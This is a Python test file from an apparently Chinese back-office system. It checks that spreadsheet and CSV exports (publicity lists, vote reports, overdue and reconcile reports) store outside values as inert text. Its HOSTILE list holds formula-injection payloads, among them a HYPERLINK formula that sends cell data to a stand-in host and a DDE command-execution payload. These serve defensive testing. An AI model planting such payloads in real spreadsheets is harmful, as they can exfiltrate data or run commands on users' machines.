"""Formula injection: every spreadsheet the back office writes (publicity lists, vote
reports, the overdue and reconcile reports, the demo's staff files) keeps values from
outside as inert text, in XLSX and in CSV."""
from __future__ import annotations

import csv
import datetime as dt
import zipfile

import openpyxl
import pytest

from stage_data import COMMITTEE, application, employer
from zhicheng.clock import SHANGHAI
from zhicheng.db.engine import unit_of_work
from zhicheng.delivery import reconcile as delivery_reconcile
from zhicheng.files.spreadsheets import write_csv, write_workbook
from zhicheng.publicity import service as publicity
from zhicheng.review import overdue as review_overdue
from zhicheng.votes.reports import write_session_report
from zhicheng.workspace import working_calendar

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点此查看")', "+1+2", "-2+3*4", "@SUM(1,2)",
           "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0"]


def inert(path, hostile=HOSTILE) -> list[str]:
    """Assert no cell of the workbook is a formula (nor starts like one), and every
    hostile value is there as text behind the guard; returns the text cells."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    texts = []
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), (c.coordinate, c.value)
                    texts.append(c.value)
    for value in hostile:   # XML reads a carriage return as a line feed
        assert any(t.startswith("'" + value.replace("\r", "\n")) for t in texts), value
    return texts


@pytest.fixture
def hostile_apps(app):
    with unit_of_work(app.sessions) as s:
        for n, value in enumerate(HOSTILE, start=1):
            a = application(s, app.config, n=n, stage="评前公示", employer_row=employer(s, n, value), name=value[:60])
            a.specialty = value
    return app


def test_publicity_list_keeps_hostile_names_as_text(hostile_apps, tmp_path):
    with unit_of_work(hostile_apps.sessions) as s:
        r = publicity.open_window(session=s, kind="评前", committee_id=COMMITTEE, config=hostile_apps.config,
                                  calendar=working_calendar(hostile_apps.config.directory),
                                  now=hostile_apps.clock.now(), out_dir=tmp_path)
    assert r["applications"] == len(HOSTILE)
    texts = inert(r["list_xlsx"])
    assert "'" + HOSTILE[0] in texts          # the employer's name, whole, shown as text
    sheet = openpyxl.load_workbook(r["list_xlsx"])["名单"]
    numbers = [row[0] for row in sheet.iter_rows(values_only=True) if isinstance(row[0], int)]
    assert numbers == list(range(1, len(HOSTILE) + 1))   # our own 序号 stay numbers


def test_vote_report_keeps_hostile_names_as_text(hostile_apps, tmp_path):
    apps = [f"SUB-{n:05d}" for n in range(1, len(HOSTILE) + 1)]
    result = {"session": "TZ-2026-01", "committee": COMMITTEE, "held_on": "2026-06-10", "members_total": 15,
              "present": 12, "quorum_needed": 10, "quorum": True,
              "applications": [{"application": a, "present": 12, "recused": 0, "yes": 9, "no": 3, "abstain": 0,
                                "missing": 0, "threshold": 8, "outcome": "pass"} for a in apps],
              "anomalies": [{"code": "proxy_ballot", "message": "=1+1", "application": apps[0],
                             "source": "@ballots.csv", "rows": [3]}]}
    with hostile_apps.sessions() as s:
        paths = write_session_report(session=s, result=result, config=hostile_apps.config, out_dir=tmp_path)
    inert(paths["xlsx"], HOSTILE + ["=1+1", "@ballots.csv"])
    counts = list(openpyxl.load_workbook(paths["xlsx"])["表决结果"].iter_rows(values_only=True))[-1]
    assert counts[5:12] == (12, 0, 9, 3, 0, 0, 8)    # counts stay numbers


def test_overdue_report_keeps_hostile_offices_as_text(tmp_path):
    rows = [{"office": v, "stage": "市单位审核、公示", "submission_id": f"JS{n}", "name": v, "track": "评审",
             "entered_at": "2026-06-01T09:00:00+08:00", "due_at": "2026-06-23T00:00:00+08:00", "days_overdue": 3}
            for n, v in enumerate(HOSTILE)]
    path = review_overdue.write_report(rows, home=tmp_path, now=dt.datetime(2026, 6, 26, 10, tzinfo=SHANGHAI))
    inert(path)


def test_reconcile_report_keeps_the_provinces_words_as_text(tmp_path):
    rows = [{"certificate_no": v, "issuer_region_code": "321200", "year": 2026, "problem": "different",
             "detail": v + "\x01"} for v in HOSTILE]
    summary = {"batch_year": 2026, "full": True, "scopes": [], "differences": {"different": len(rows)},
               "rows": rows, "clean": False, "requeued": 0}
    path = delivery_reconcile.write_report(summary, reports_dir=tmp_path, now=dt.datetime(2026, 12, 1, tzinfo=SHANGHAI))
    texts = inert(path)
    assert "'" + HOSTILE[1] + "\ufffd" in texts     # a control character XML cannot hold is replaced


def test_staff_files_csv_and_xlsx_keep_hostile_values_as_text(tmp_path):
    rows = [[v, 3, "张三"] for v in HOSTILE]
    path = write_csv(tmp_path / "t.csv", ["值", "数", "名"], rows)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    assert back[0] == ["值", "数", "名"]
    assert [r[0] for r in back[1:]] == ["'" + v for v in HOSTILE]
    assert all(r[1:] == ["3", "张三"] for r in back[1:])
    assert ",3," in path.read_text(encoding="utf-8-sig")      # our number, bare: Excel reads a number
    inert(write_workbook(tmp_path / "t.xlsx", {"表": (["值", "数", "名"], rows)}))
